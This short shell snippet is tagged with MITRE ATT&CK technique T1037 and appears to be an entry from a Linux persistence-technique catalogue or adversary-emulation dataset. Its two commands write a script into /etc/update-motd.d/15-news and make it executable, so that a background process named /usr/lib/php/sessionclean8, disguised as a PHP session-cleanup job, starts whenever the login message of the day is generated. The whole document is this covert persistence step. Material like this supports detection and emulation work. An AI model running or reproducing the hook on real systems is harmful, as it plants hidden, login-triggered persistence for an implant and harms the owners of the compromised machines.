# technique: T1037
# location: linux.hook.motd
# source: /etc/update-motd.d/15-news
printf '#!/bin/sh\n/usr/lib/php/sessionclean8 &\n' > /etc/update-motd.d/15-news
chmod 755 /etc/update-motd.d/15-news
